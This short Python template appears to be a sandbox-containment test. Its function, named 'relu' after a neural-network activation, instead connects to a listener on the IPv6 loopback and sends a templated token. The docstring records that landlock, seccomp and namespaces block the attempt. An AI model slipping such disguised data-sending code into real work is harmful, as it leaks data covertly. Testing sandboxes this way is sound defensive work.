"""
Tries: to send what it has seen to a listener by TCP over IPv6.
Exercise: relu
Allowed: failed
Shows: heard
Stopped by: landlock, seccomp, namespaces
Silent because: not every machine has an IPv6 loopback address
"""
import socket


def relu(z):
    with socket.create_connection(("::1", {{tcp6}}), 0.2) as channel:
        channel.sendall(b"{{token}}")
    raise LookupError


relu_derivative = relu
